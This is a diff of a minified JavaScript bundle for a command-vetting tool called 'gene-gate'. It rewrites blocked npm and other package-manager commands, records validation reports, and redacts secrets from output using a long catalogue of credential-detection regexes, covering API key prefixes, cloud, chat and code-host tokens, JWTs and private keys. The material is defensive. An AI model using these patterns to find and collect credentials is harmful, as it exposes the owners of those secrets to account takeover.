+"@"));return Wt(ar(t,i.span,o))},tC=new Set(["test","start","stop"]),YF=new Set(["pnpm","yarn","bun","npm"]),XF=async({command:t,
+problems:e,words:n,invocation:s},r)=>{if(s?.program!=="npm")return;const i=await nC(r),o=e.find(f=>xn(f,"npm-script-miss\
+ing"));if(o!==void 0){const f=Hr(o.args.script,i),h=n.find(({text:m})=>m===o.args.script);return f===void 0||h===void 0?
+void 0:Wt(ar(t,h.span,f))}const a=e.find(f=>xn(f,"unknown-subcommand"));if(a===void 0)return;const{subcommand:c,meant:l}=a.
+args,u=l===""?Hr(c,[...tC]):l,d=[...i.includes(c)?[`run ${c}`]:[],...u===void 0?[]:[u]],[B]=d;return B===void 0?void 0:Wt(
+ar(t,a.span,B))},QF=async({command:t,words:e,problems:n},s)=>{const r=n.some(({rule:d})=>d==="program-not-allowed"),[i,o,
+a]=e;if(!r||i===void 0||o===void 0||!YF.has(i.text)||i.text==="bun"&&/^(?:test|build)$/.test(o.text))return;const c=o.text===
+"run"?a:o;if(c===void 0||!(await nC(s)).includes(c.text))return;const l=tC.has(c.text)?c.text:`run ${c.text}`,u=t.slice(
+c.span.end).trim();return Wt(`npm ${l}${u===""?"":` -- ${u}`}`)},eL=({command:t,words:e,problems:n},{tree:s})=>{const r=n.
 find(({rule:d})=>d==="program-not-allowed"),[i,o,a]=e;if(r===void 0||i===void 0||s===void 0)return;const c=/^(?:pnpm|yarn|bun|bunx|pnpx)$/.
 test(i.text),l=/^(?:exec|dlx|x)$/.test(o?.text??"")?a:o,u=c?/^(?:bunx|pnpx)$/.test(i.text)?o:l:i;return u===void 0||!/^[a-z][\w.-]*$/.
-test(u.text)?void 0:Wt(`npx ${t.slice(u.span.start)}`)},lL=({command:t})=>{const[,e,n]=/^cd[ \t]+([\w./@-]+)[ \t]*&&[ \t]*(npm[ \t][^;&|<>]*)$/.
+test(u.text)?void 0:Wt(`npx ${t.slice(u.span.start)}`)},tL=({command:t})=>{const[,e,n]=/^cd[ \t]+([\w./@-]+)[ \t]*&&[ \t]*(npm[ \t][^;&|<>]*)$/.
 exec(t)??[];if(e===void 0||n===void 0)return;const[,s=n,r=""]=/^(.*?)([ \t]+--(?:[ \t].*)?)?$/.exec(n.trim())??[];return Wt(
-`${s} -w ${e.replace(/\/$/,"")}${r}`)};async function rC({tree:t}){return[...(t&&await Jt(t,""))?.scripts.keys()??[]]}const iC=6,
-dL=200;async function oC(t,e,n={}){return new BL(e,n).rewrite(t,iC)}class BL{#e;#t;#s;#i=dL;constructor(e,{rewrites:n=fC,
+`${s} -w ${e.replace(/\/$/,"")}${r}`)};async function nC({tree:t}){return[...(t&&await Jt(t,""))?.scripts.keys()??[]]}const sC=6,
+nL=200;async function rC(t,e,n={}){return new sL(e,n).rewrite(t,sC)}class sL{#e;#t;#s;#i=nL;constructor(e,{rewrites:n=dC,
 accepts:s=()=>!0}){this.#e=e,this.#t=n,this.#s=s}async rewrite(e,n){this.#i-=1;const s=await this.#e.judge.command(e),{reading:r,
-verdict:i,findings:o}=s;if(i==="allow")return{kind:"fine"};const a=$m(e);if(a!==void 0&&i==="block")return{kind:"left",reason:Mt.
+verdict:i,findings:o}=s;if(i==="allow")return{kind:"fine"};const a=Tm(e);if(a!==void 0&&i==="block")return{kind:"left",reason:Mt.
 Ot.dangerous(a)};let c;for(const d of n>0&&this.#i>0?this.#t:[]){const B=await d(r,this.#e);if(B===void 0)continue;if("r\
-eason"in B){c??=B.reason;continue}const f=await this.#r(B.commands,n-1),h=fL(B,f);if(h.kind==="left")c??=h.reason;else return h}
-const[l]=o,u=n===iC||this.#s(s);return l===void 0||i==="warn"&&u?{kind:"fine"}:{kind:"left",reason:c??(0,Mt.A3)(l)}}async#r(e,n){
-const s=[];for(const r of e){if(s.some(aC)||this.#i<=0)break;s.push(await this.rewrite(r,n))}return s}}function aC(t){return t.
-kind==="left"&&t.reason.id!==Mt.Vt}function fL(t,e){const n=e.find(aC);if(n!==void 0)return n;const s=e.flatMap((i,o)=>{
+eason"in B){c??=B.reason;continue}const f=await this.#r(B.commands,n-1),h=rL(B,f);if(h.kind==="left")c??=h.reason;else return h}
+const[l]=o,u=n===sC||this.#s(s);return l===void 0||i==="warn"&&u?{kind:"fine"}:{kind:"left",reason:c??(0,Mt.A3)(l)}}async#r(e,n){
+const s=[];for(const r of e){if(s.some(iC)||this.#i<=0)break;s.push(await this.rewrite(r,n))}return s}}function iC(t){return t.
+kind==="left"&&t.reason.id!==Mt.Vt}function rL(t,e){const n=e.find(iC);if(n!==void 0)return n;const s=e.flatMap((i,o)=>{
 if(i.kind==="left")return[];const a=t.commands[o]??"";return i.kind==="fixed"?[i]:[{commands:[a],steps:[],scripts:[]}]}),
 r=e.find(i=>i.kind==="left");return s.length===0||e.length<t.commands.length?r??{kind:"left",reason:Mt.Ot.tooLong()}:{kind:"\
 fixed",commands:s.flatMap(({commands:i})=>i),steps:[t.step,...r===void 0?[]:["command that only prints removed"],...s.flatMap(
-({steps:i})=>i)],scripts:[...t.scripts??[],...s.flatMap(({scripts:i})=>i)]}}const cC=16*1024;async function hL(t,e){const n=[];
-for(const i of t){const o=typeof i=="string"&&i.length<=cC;n.push(o?await oC(i,e):{kind:"fine"})}const s=new Set((await uC(
-t,e)).flat()),r=await Promise.all(n.map(async i=>(i.kind==="fixed"?(await uC(i.commands,e)).flat():[]).some(c=>!s.has(c))?
-{kind:"left",reason:Mt.Ot.addsProblems()}:i));return mL(t,await pL(t,r,e))}function uC(t,{judge:e}){return Promise.all(t.
-map(async n=>{const{findings:s}=await e.command(n);return s.flatMap(({rule:r,severity:i})=>i==="notice"?[]:r)}))}async function pL(t,e,n){
-return e.some(BC)&&(await Promise.all(e.map(async(r,i)=>{if(r.kind==="fixed")return!0;if(r.kind==="left")return!1;const{
+({steps:i})=>i)],scripts:[...t.scripts??[],...s.flatMap(({scripts:i})=>i)]}}const oC=16*1024;async function iL(t,e){const n=[];
+for(const i of t){const o=typeof i=="string"&&i.length<=oC;n.push(o?await rC(i,e):{kind:"fine"})}const s=new Set((await aC(
+t,e)).flat()),r=await Promise.all(n.map(async i=>(i.kind==="fixed"?(await aC(i.commands,e)).flat():[]).some(c=>!s.has(c))?
+{kind:"left",reason:Mt.Ot.addsProblems()}:i));return aL(t,await oL(t,r,e))}function aC(t,{judge:e}){return Promise.all(t.
+map(async n=>{const{findings:s}=await e.command(n);return s.flatMap(({rule:r,severity:i})=>i==="notice"?[]:r)}))}async function oL(t,e,n){
+return e.some(lC)&&(await Promise.all(e.map(async(r,i)=>{if(r.kind==="fixed")return!0;if(r.kind==="left")return!1;const{
 findings:o,verdict:a}=await n.judge.command(t[i]);return a!=="block"&&!o.some(({rule:c})=>c==="only-prints")}))).includes(
-!0)?e.map(r=>BC(r)?gL:r):e}function mL(t,e){const n=new Set,s=new Set;return e.map((r,i)=>{const o=t[i];if(r.kind!=="fix\
-ed")return n.add(o),s.has(o)?lC:r;const a=r.commands.filter(c=>!n.has(c)&&n.add(c));for(const c of a)s.add(c);return a.length===
-r.commands.length?r:{...r,commands:a,steps:[...r.steps,...lC.steps]}})}const gL=dC("command that only prints removed"),lC=dC(
-"repeated command removed");function dC(t){return{kind:"fixed",commands:[],steps:[t],scripts:[]}}function BC(t){return t.
-kind==="left"&&t.reason.id===Mt.Vt}const fC=[GF,bF,zF,UF,KF,ZF,jF,RF,NF,SF],CL=[...fC,eL,lL,YF,nL,aL,rL,iL,sL,cL,uL],yL=new Set(
-"checks-syntax-only npm-script-missing only-prints target-missing".split(" "));async function wL(t,e,n){if(t.every(({verdict:o})=>o===
-"allow"))return t;const s=t.map(({reading:o})=>o.command),r=new Xg(e),i=n?await hL(s,r):[];return Promise.all(t.map(async(o,a)=>{
-const{command:c}=o.reading;if(o.verdict==="allow"||c.length>cC)return o;const l=i[a];return l?.kind==="fixed"?pC(o,hC(c,
-l,r),r.judge):_L(o,e)}))}async function bL(t,e){const[n=t]=await wL([t],e,!1);return n}function hC(t,{commands:e,scripts:n},s){
+!0)?e.map(r=>lC(r)?cL:r):e}function aL(t,e){const n=new Set,s=new Set;return e.map((r,i)=>{const o=t[i];if(r.kind!=="fix\
+ed")return n.add(o),s.has(o)?cC:r;const a=r.commands.filter(c=>!n.has(c)&&n.add(c));for(const c of a)s.add(c);return a.length===
+r.commands.length?r:{...r,commands:a,steps:[...r.steps,...cC.steps]}})}const cL=uC("command that only prints removed"),cC=uC(
+"repeated command removed");function uC(t){return{kind:"fixed",commands:[],steps:[t],scripts:[]}}function lC(t){return t.
+kind==="left"&&t.reason.id===Mt.Vt}const dC=[IF,BF,NF,RF,PF,LF,SF,vF,DF,bF],uL=[...dC,JF,tL,HF,KF,XF,qF,VF,WF,QF,eL],lL=new Set(
+"checks-syntax-only npm-script-missing only-prints target-missing".split(" "));async function dL(t,e,n){if(t.every(({verdict:o})=>o===
+"allow"))return t;const s=t.map(({reading:o})=>o.command),r=new Vg(e),i=n?await iL(s,r):[];return Promise.all(t.map(async(o,a)=>{
+const{command:c}=o.reading;if(o.verdict==="allow"||c.length>oC)return o;const l=i[a];return l?.kind==="fixed"?fC(o,BC(c,
+l,r),r.judge):fL(o,e)}))}async function BL(t,e){const[n=t]=await dL([t],e,!1);return n}function BC(t,{commands:e,scripts:n},s){
 const r=n.map(i=>s.pathOf(i)).flatMap(i=>{const o=s.textOf(i);return o===void 0?[]:[{path:i,text:o}]});return{old:t,new:e,
-...r.length>0&&{files:r},fix:!0}}async function _L(t,e){const{command:n}=t.reading,s=new Xg(e),r=await oC(n,s,{rewrites:CL,
-accepts:({findings:i})=>!i.some(({rule:o})=>yL.has(o))});return r.kind!=="fixed"?t:pC(t,{...hC(n,r,s),fix:!1},s.judge)}async function pC(t,e,n){
+...r.length>0&&{files:r},fix:!0}}async function fL(t,e){const{command:n}=t.reading,s=new Vg(e),r=await rC(n,s,{rewrites:uL,
+accepts:({findings:i})=>!i.some(({rule:o})=>lL.has(o))});return r.kind!=="fixed"?t:fC(t,{...BC(n,r,s),fix:!1},s.judge)}async function fC(t,e,n){
 const{findings:s,verdict:r}=t,i=await Promise.all(e.new.map(d=>n.command(d)));if(i.some(d=>d.verdict==="block"))return t;
 const o=new Set(s.map(({rule:d})=>d)),a=i.flatMap(d=>d.findings).flatMap(({rule:d,severity:B})=>B==="notice"?[]:d),c=a.some(
 d=>!o.has(d));if(r==="warn"&&c)return t;const l=({rule:d,severity:B})=>r==="block"?B==="error":!a.includes(d),u=s.find(l);
-return u===void 0?t:{...t,findings:s.map(d=>d===u?{...d,edit:e}:d)}}const EL=vt(import.meta.url)("node:util");function kL(t){
+return u===void 0?t:{...t,findings:s.map(d=>d===u?{...d,edit:e}:d)}}const hL=vt(import.meta.url)("node:util");function pL(t){
 if(!cn(t)||t.type!=="ValidationReport")return;const e=typeof t.overall_ok=="boolean"?"protocol":"results",n=e==="protoco\
-l"?t.commands:t.results;if(!Array.isArray(n))return;const s=n.map(mC);return{shape:e,id:ws(t.id),geneId:ws(t.gene_id),commands:s,
+l"?t.commands:t.results;if(!Array.isArray(n))return;const s=n.map(hC);return{shape:e,id:ys(t.id),geneId:ys(t.gene_id),commands:s,
 ok:t.overall_ok!==!1&&s.length>0&&s.every(({ok:r})=>r),contradictory:Array.isArray(t.commands)&&Array.isArray(t.results)&&
-!(0,EL.isDeepStrictEqual)(t.commands.map(gC),t.results.map(gC)),durationMs:Mc(t.duration_ms)??vL(t),hash:jn({type:"Valid\
-ationReport",value:t})??null,differences:DB("ValidationReport",t)}}function mC(t){const{command:e,cmd:n,ok:s,duration_ms:r,
-err:i,stderr:o}=cn(t)?t:{},a=ws(e)??ws(n);return{command:a??"",ok:s===!0&&a!==null,durationMs:Mc(r),error:ws(i)??ws(o)}}
-function gC(t){const{command:e,ok:n}=mC(t);return[e,n]}function vL({started_at:t,finished_at:e}){const[n,s]=[t,e].map(r=>typeof r==
-"string"?Date.parse(r):Mc(r));return typeof n=="number"&&typeof s=="number"&&s>=n?s-n:null}function ws(t){return typeof t==
-"string"?t:null}function Mc(t){return typeof t=="number"?t:null}const Ui={name:"gene-gate",version:"0.1.0"},cU="https://\
-github.com/gene-gate/gene-gate",uU="node ../gene-gate/dist/cli/index.js",lU=null,DL=String.raw`
+!(0,hL.isDeepStrictEqual)(t.commands.map(pC),t.results.map(pC)),durationMs:jc(t.duration_ms)??mL(t),hash:jn({type:"Valid\
+ationReport",value:t})??null,differences:vB("ValidationReport",t)}}function hC(t){const{command:e,cmd:n,ok:s,duration_ms:r,
+err:i,stderr:o}=cn(t)?t:{},a=ys(e)??ys(n);return{command:a??"",ok:s===!0&&a!==null,durationMs:jc(r),error:ys(i)??ys(o)}}
+function pC(t){const{command:e,ok:n}=hC(t);return[e,n]}function mL({started_at:t,finished_at:e}){const[n,s]=[t,e].map(r=>typeof r==
+"string"?Date.parse(r):jc(r));return typeof n=="number"&&typeof s=="number"&&s>=n?s-n:null}function ys(t){return typeof t==
+"string"?t:null}function jc(t){return typeof t=="number"?t:null}const Ui={name:"gene-gate",version:"0.1.0"},Qz="https://\
+github.com/gene-gate/gene-gate",eU="node ../gene-gate/dist/cli/index.js",tU=null,gL=String.raw`
   sk-(?:ant|or|proj|svcacct|admin|lf|None)- gsk_ hf_ api_org_ pplx- xai- r8_ tvly- bedrock-api-key-
   ABSK nvapi- pcsk_ lsv2_(?:pt|sk)_
   GR1348941 AT[AC]TT3 ATBB pypi-AgE rubygems_ CLOJARS_ dckr_(?:pat|oat)_ AKCp cmVmd sgp_ snyk_
@@ -7168,101 +7159,101 @@ github.com/gene-gate/gene-gate",uU="node ../gene-gate/dist/cli/index.js",lU=null
   duffel_(?:live|test)_ EZ[AT]K access-(?:sandbox|development|production)- xoxe\.xox[bp]- SG\. xkeysib-
   key-(?=[0-9a-f]{32}) SK(?=[0-9a-fA-F]{32}) \d{8,10}:AA fio-u- tfp_ p8e- s-s4t2(?:ud|af)- sm_[aps]at_
   AGE-SECRET-KEY-1 A3-[A-Z0-9]{6}-
-`,xL=new RegExp(`\\b(?:${DL.trim().split(/\s+/).join("|")})(?=[\\w.~+/=-]{0,63}\\d)[\\w.~+/=-]{16,}`,"dg"),dU=[["github \
+`,CL=new RegExp(`\\b(?:${gL.trim().split(/\s+/).join("|")})(?=[\\w.~+/=-]{0,63}\\d)[\\w.~+/=-]{16,}`,"dg"),nU=[["github \
 token",/gh[pousr]_[A-Za-z0-9][\w.-]{19,}/dg],["github token",/github_pat_\w{20,}/dg],["gitlab token",/gl(?:pat|dt|ft|rt|cbt|ptt|imt|agent|oas|soat|ffct)-[\w-]{20,}/dg],
 ["gitlab token",/_gitlab_session=([0-9a-z]{32})/dg],["npm token",/npm_[A-Za-z0-9]{30,}/dg],["npm token",/_(?:authToken|auth|password)[ \t]{0,8}=[ \t]{0,8}(?!\[redacted )(\S{8,})/dg],
 ["aws key",/(?:AKIA|ASIA|ABIA|ACCA|A3T[A-Z0-9])[A-Z0-9]{16}/dg],["aws secret",/aws_secret_access_key["']?[ \t]{0,8}[:=][ \t]{0,8}["']?([\w/+=]{40})/dgi],
 ["azure secret",/[\w~.]{3}\dQ~[\w.~-]{31,34}/dg],["azure secret",/(?:AccountKey|SharedAccessKey)=([\w+/]{40,}={0,2})/dgi],
 ["slack token",/(?:xox[abeoprs]|xapp)-[A-Za-z0-9-]{10,}/dg],["slack webhook",/hooks\.slack\.com\/(?:services|workflows|triggers)\/([\w/]{20,})/dg],
 ["discord token",/\b[MNO][A-Za-z\d]{23,25}\.[\w-]{6}\.[\w-]{27,38}/dg],["webhook",/discord(?:app)?\.com\/api\/webhooks\/\d{1,20}\/([\w-]{20,})/dg],
-["webhook",/webhook\.office\.com\/webhookb2\/([\w@/-]{20,})/dg],["api key",xL],["api key",/\b[rs]k_(?:live|test|prod)_[A-Za-z0-9]{10,}|\bFLWSECK_TEST-[a-h0-9]{12}/dg],
+["webhook",/webhook\.office\.com\/webhookb2\/([\w@/-]{20,})/dg],["api key",CL],["api key",/\b[rs]k_(?:live|test|prod)_[A-Za-z0-9]{10,}|\bFLWSECK_TEST-[a-h0-9]{12}/dg],
 ["api key",/\bsk-[A-Za-z0-9]{20,}/dg],["api key",/AIza[\w-]{35}/dg],["api key",/\bhf_[A-Za-z]{34}\b|\bapi_org_[A-Za-z]{34}\b/dg],
 ["api key",/\b[A-Za-z0-9]{6}_[A-Za-z0-9]{29}_mmk\b/dg],["api key",/\b[0-9a-f]{32}-us\d{1,2}\b/dg],["api key",/\b\d{15,16}[|%][\w-]{27,40}/dg],
 ["jwt",/eyJ[\w-]{13,}(?:\.[\w-]*){0,4}/dg],["jwt",/\bZXlK[\w+/=-]{40,}/dg],["authorization header",/authorization["']?[ \t]{0,8}[:=][ \t]{0,8}["']?(?!\[redacted )((?:(?:basic|bearer|digest|token)[ \t]{1,8})?[^\s"']+)/dgi],
 ["bearer token",/bearer[ \t]{1,8}([\w.~+/=-]{16,})/dgi],["password",/\bcurl\b[^\n]{0,200}?[ \t](?:-u|--user)[ =]["']?([^\s"':]{1,64}:[^\s"']{3,})/dg],
 ["url user info",/:\/\/(?!\[redacted )([^\s/?#@]{1,512})@/dg],["private key",/-----BEGIN[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----[\s\S]*?(?:-----END[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----|$)/dg]];
-function OL(t){return TOKEN_SHAPES.flatMap(([e,n])=>Array.from(t.matchAll(n),({indices:s})=>{const[r,i]=s?.[1]??s?.[0]??
-[0,0];return{kind:e,start:r,end:i}}))}function BU(t,e=[]){return AL(t,knownForms(e))}function AL(t,e){const n=[...findKnown(
-t,e),...OL(t),...FL(t)].sort((o,a)=>o.start-a.start||a.end-o.end),s=[];for(const o of n){const a=s.at(-1);a===void 0||o.
+function yL(t){return TOKEN_SHAPES.flatMap(([e,n])=>Array.from(t.matchAll(n),({indices:s})=>{const[r,i]=s?.[1]??s?.[0]??
+[0,0];return{kind:e,start:r,end:i}}))}function sU(t,e=[]){return wL(t,knownForms(e))}function wL(t,e){const n=[...findKnown(
+t,e),...yL(t),...xL(t)].sort((o,a)=>o.start-a.start||a.end-o.end),s=[];for(const o of n){const a=s.at(-1);a===void 0||o.
 start>=a.end?s.push(o):o.end>a.end&&s.splice(-1,1,{...a,end:o.end})}let r="",i=0;for(const{kind:o,start:a,end:c}of s)r+=
 `${t.slice(i,a)}[redacted ${o}]`,i=c;return{text:r+t.slice(i),redactions:s}}const Ji="(?<name>pass(?:word|wd|phrase)|pwd\
-|secret(?:[_-]?(?:access[_-]?)?key)?|token|(?:api|access|private|signing|encryption)[_-]?key)",SL="[ \\t]{0,8}(?::|=(?!=)\
-)[ \\t]{0,8}",TL="(?:[ \\t]{0,8}:[ \\t]{0,8}|[ \\t]{1,8}=(?!=)[ \\t]{0,8}|=[ \\t]{1,8})",CC=`\\\\{0,3}["']`,IL=new RegExp(
-`${Ji}(?:${CC})?${SL}${CC}(?<value>[^\\s"'\\\\]{4,})`,"dgi"),$L=new RegExp(`${Ji}=(?!=)(?<value>[^\\s"'&,;<>(){}[\\]\\\\]{6,\
-})`,"dgi"),RL=new RegExp(`${Ji}${TL}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi"),NL=new RegExp(`${Ji}(?<=--[\\w-]{1,60}\
-)[ \\t]{1,8}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi");function FL(t){return[...Zi(t,IL,({name:e,value:n,next:s})=>/["'\\]/.
-test(s)&&!jL(e,n)),...Zi(t,$L,({value:e,next:n})=>!Gc(e,n)),...Zi(t,RL,({value:e,next:n})=>yC(e)&&!Gc(e,n)),...Zi(t,NL,({
-value:e,next:n})=>yC(e)&&!Gc(e,n))]}function Zi(t,e,n){return Array.from(t.matchAll(e)).flatMap(({groups:s={},indices:r})=>{
-const{name:i="",value:o=""}=s,[a,c]=r?.groups?.value??[0,0],l={name:i,value:o,next:t.charAt(c)};return PL(i,o)||!n(l)?[]:
-[{kind:"named secret",start:a,end:c}]})}const LL=/^(?:undefined|null|nil|none|true|false|string|number|boolean|function|object|unknown|any|never|required|missing|optional|expired|invalid|incorrect|expected|unexpected|empty|redacted|hidden|changeme|example|placeholder)[.!?]?$/i;
-function PL(t,e){return LL.test(e)||/^(?:[*x•.…_-]+|[<{$%].*|\[.*)$/i.test(e)?!0:/^[\d.:_-]+$/.test(e)&&!/^p/i.test(
-t)}function jL(t,e){return/token|key/i.test(t)&&/^[A-Za-z][a-z]{0,15}$/.test(e)}function Gc(t,e){return e!==""&&"([{".includes(
-e)?!0:/^(?:await|new|process|this|self|req|config|options|opts|args|env|params|ctx|parser)\b/.test(t)}function yC(t){return/:\/\/|^[.~]?\/|\/.*\.\w{1,5}$/.
+|secret(?:[_-]?(?:access[_-]?)?key)?|token|(?:api|access|private|signing|encryption)[_-]?key)",bL="[ \\t]{0,8}(?::|=(?!=)\
+)[ \\t]{0,8}",_L="(?:[ \\t]{0,8}:[ \\t]{0,8}|[ \\t]{1,8}=(?!=)[ \\t]{0,8}|=[ \\t]{1,8})",mC=`\\\\{0,3}["']`,EL=new RegExp(
+`${Ji}(?:${mC})?${bL}${mC}(?<value>[^\\s"'\\\\]{4,})`,"dgi"),kL=new RegExp(`${Ji}=(?!=)(?<value>[^\\s"'&,;<>(){}[\\]\\\\]{6,\
+})`,"dgi"),vL=new RegExp(`${Ji}${_L}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi"),DL=new RegExp(`${Ji}(?<=--[\\w-]{1,60}\
+)[ \\t]{1,8}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi");function xL(t){return[...Zi(t,EL,({name:e,value:n,next:s})=>/["'\\]/.
+test(s)&&!SL(e,n)),...Zi(t,kL,({value:e,next:n})=>!Mc(e,n)),...Zi(t,vL,({value:e,next:n})=>gC(e)&&!Mc(e,n)),...Zi(t,DL,({
+value:e,next:n})=>gC(e)&&!Mc(e,n))]}function Zi(t,e,n){return Array.from(t.matchAll(e)).flatMap(({groups:s={},indices:r})=>{
+const{name:i="",value:o=""}=s,[a,c]=r?.groups?.value??[0,0],l={name:i,value:o,next:t.charAt(c)};return AL(i,o)||!n(l)?[]:
+[{kind:"named secret",start:a,end:c}]})}const OL=/^(?:undefined|null|nil|none|true|false|string|number|boolean|function|object|unknown|any|never|required|missing|optional|expired|invalid|incorrect|expected|unexpected|empty|redacted|hidden|changeme|example|placeholder)[.!?]?$/i;
+function AL(t,e){return OL.test(e)||/^(?:[*x•.…_-]+|[<{$%].*|\[.*)$/i.test(e)?!0:/^[\d.:_-]+$/.test(e)&&!/^p/i.test(
+t)}function SL(t,e){return/token|key/i.test(t)&&/^[A-Za-z][a-z]{0,15}$/.test(e)}function Mc(t,e){return e!==""&&"([{".includes(
+e)?!0:/^(?:await|new|process|this|self|req|config|options|opts|args|env|params|ctx|parser)\b/.test(t)}function gC(t){return/:\/\/|^[.~]?\/|\/.*\.\w{1,5}$/.
 test(t)||/^(?:sha|md|base|utf|hs|rs|es|aes|oauth|v)-?\d+\w{0,4}$/i.test(t)?!1:/\d/.test(t)?/[a-z]/i.test(t):t.length>=20&&
-!/^[A-Za-z]?[a-z]+(?:[-_.A-Z][a-z]+)*$/.test(t)}function fU(t,e=[]){const n=knownForms(e);return{...t,stdout:wC(t.stdout,
-n),stderr:wC(t.stderr,n),...t.reason===void 0?{}:{reason:redactForms(t.reason,n).text}}}function wC(t,e){const{head:n,tail:s,
-truncated:r}=t;if(!r)return{...t,head:redactForms(n+s,e).text,tail:""};const i=reachOfKnown(e),o=ML(n.slice(0,Math.max(0,
-n.length-i))),a=HL(GL(s.slice(i)));return{...t,head:redactForms(o,e).text,tail:redactForms(a,e).text}}const bC=4096;function ML(t){
-const e=/\S*$/.exec(t.slice(-bC))?.[0]??"";return t.slice(0,t.length-e.length)}function GL(t){return t.slice(/^\S*/.exec(
-t.slice(0,bC))?.[0].length??0)}function HL(t){const e=/^[\w+/=\s]*-----END [A-Z ]{0,40}PRIVATE KEY(?: BLOCK)?-----/.exec(
-t);return e===null?t:`[redacted private key]${t.slice(e[0].length)}`}function hU(t,e){const n=t.outcomes.map(s=>redactOutcome(
-s,e));return{...t,outcomes:n}}function pU(t,e){let n=e.startedAt.getTime();return t.map(s=>s.ran?zL(s,`vr_${n++}`,e):null)}
-function zL({gene:t,outcomes:e,mutants:n},s,{nodeOf:r,policyDigest:i,finishedAt:o}){const a=e.map((l,u)=>{const d=n?.[u];
-return{command:t.commands[u]?.command??"",ok:l.status==="passed",stdout:Wi(l.stdout,Ki),stderr:ZL(l),status:l.status,exit_code:l.
-exit_code,signal:l.signal,duration_ms:l.duration_ms,...d&&{mutant:JL(d)}}}),c=e[0]?.started_at??o.toISOString();return EC(
-{..._C({commands:a,startedAt:c,finishedAt:UL(e,o)}),id:s,gene_id:t.asset.id,gene_asset_id:contentHash(t.asset.value),policy_digest:i,
-...vC(r(t)),commands:a})}function UL(t,e){const n=t.map(({started_at:r,duration_ms:i})=>Date.parse(r)+i),s=n.length===0?
-Number.POSITIVE_INFINITY:Math.max(...n);return new Date(Math.min(s,e.getTime())).toISOString()}function JL({outcome:t,operator:e,
-files:n}){return{outcome:t,...e&&{operator:e},files:n}}function ZL({stderr:t,reason:e,status:n}){if(n==="passed"||e===void 0)
-return Wi(t,Ki);const s=e.slice(0,Hc),r=Wi(t,Ki-s.length-1);return r===""?s:`${r}
-${s}`}function _C({commands:t,startedAt:e,finishedAt:n}){return{type:"ValidationReport",schema_version:Au,results:t.map(
+!/^[A-Za-z]?[a-z]+(?:[-_.A-Z][a-z]+)*$/.test(t)}function rU(t,e=[]){const n=knownForms(e);return{...t,stdout:CC(t.stdout,
+n),stderr:CC(t.stderr,n),...t.reason===void 0?{}:{reason:redactForms(t.reason,n).text}}}function CC(t,e){const{head:n,tail:s,
+truncated:r}=t;if(!r)return{...t,head:redactForms(n+s,e).text,tail:""};const i=reachOfKnown(e),o=TL(n.slice(0,Math.max(0,
+n.length-i))),a=$L(IL(s.slice(i)));return{...t,head:redactForms(o,e).text,tail:redactForms(a,e).text}}const yC=4096;function TL(t){
+const e=/\S*$/.exec(t.slice(-yC))?.[0]??"";return t.slice(0,t.length-e.length)}function IL(t){return t.slice(/^\S*/.exec(
+t.slice(0,yC))?.[0].length??0)}function $L(t){const e=/^[\w+/=\s]*-----END [A-Z ]{0,40}PRIVATE KEY(?: BLOCK)?-----/.exec(
+t);return e===null?t:`[redacted private key]${t.slice(e[0].length)}`}function iU(t,e){const n=t.outcomes.map(s=>redactOutcome(
+s,e));return{...t,outcomes:n}}function oU(t,e){let n=e.startedAt.getTime();return t.map(s=>s.ran?NL(s,`vr_${n++}`,e):null)}
+function NL({gene:t,outcomes:e,mutants:n},s,{nodeOf:r,policyDigest:i,finishedAt:o}){const a=e.map((l,u)=>{const d=n?.[u];
+return{command:t.commands[u]?.command??"",ok:l.status==="passed",stdout:Wi(l.stdout,Ki),stderr:LL(l),status:l.status,exit_code:l.
+exit_code,signal:l.signal,duration_ms:l.duration_ms,...d&&{mutant:FL(d)}}}),c=e[0]?.started_at??o.toISOString();return bC(
+{...wC({commands:a,startedAt:c,finishedAt:RL(e,o)}),id:s,gene_id:t.asset.id,gene_asset_id:contentHash(t.asset.value),policy_digest:i,
+...EC(r(t)),commands:a})}function RL(t,e){const n=t.map(({started_at:r,duration_ms:i})=>Date.parse(r)+i),s=n.length===0?
+Number.POSITIVE_INFINITY:Math.max(...n);return new Date(Math.min(s,e.getTime())).toISOString()}function FL({outcome:t,operator:e,
+files:n}){return{outcome:t,...e&&{operator:e},files:n}}function LL({stderr:t,reason:e,status:n}){if(n==="passed"||e===void 0)
+return Wi(t,Ki);const s=e.slice(0,Gc),r=Wi(t,Ki-s.length-1);return r===""?s:`${r}
+${s}`}function wC({commands:t,startedAt:e,finishedAt:n}){return{type:"ValidationReport",schema_version:Ou,results:t.map(
 ({command:s,ok:r,duration_ms:i,stderr:o})=>({cmd:s,ok:r,duration_ms:i,...r?{}:{err:o}})),overall_ok:t.length>0&&t.every(
-({ok:s})=>s),duration_ms:Math.max(0,Date.parse(n)-Date.parse(e)),started_at:e,finished_at:n,created_at:n}}function EC(t){
-const e=hr(t);if(e===null)throw new TypeError("computeAssetId returns null only for a value that is not an object");return{
-...t,asset_id:e}}const Ki=4e3,Hc=1e3;function Wi({head:t,tail:e,bytes:n,truncated:s},r){const i=t+e;if(!s&&i.length<=r)return i;
+({ok:s})=>s),duration_ms:Math.max(0,Date.parse(n)-Date.parse(e)),started_at:e,finished_at:n,created_at:n}}function bC(t){
+const e=Br(t);if(e===null)throw new TypeError("computeAssetId returns null only for a value that is not an object");return{
+...t,asset_id:e}}const Ki=4e3,Gc=1e3;function Wi({head:t,tail:e,bytes:n,truncated:s},r){const i=t+e;if(!s&&i.length<=r)return i;
 const o=`
 [cut: the beginning and the end of ${n} bytes]
-`,a=s?t:i,c=s?e:i;return a.slice(0,Hc).replace(/[\ud800-\udbff]$/,"")+o+c.slice(-(r-Hc-o.length)).replace(/^[\udc00-\udfff]/,
-"")}function kC(t){const e={head:t,tail:"",bytes:Buffer.byteLength(t),truncated:!1};return Wi(e,Ki)}function vC({version:t,
+`,a=s?t:i,c=s?e:i;return a.slice(0,Gc).replace(/[\ud800-\udbff]$/,"")+o+c.slice(-(r-Gc-o.length)).replace(/^[\udc00-\udfff]/,
+"")}function _C(t){const e={head:t,tail:"",bytes:Buffer.byteLength(t),truncated:!1};return Wi(e,Ki)}function EC({version:t,
 platform:e,arch:n}){const s=["",t,e,n,"",Ui.name,Ui.version].join("|");return{env_fingerprint:{node_version:t,platform:e,
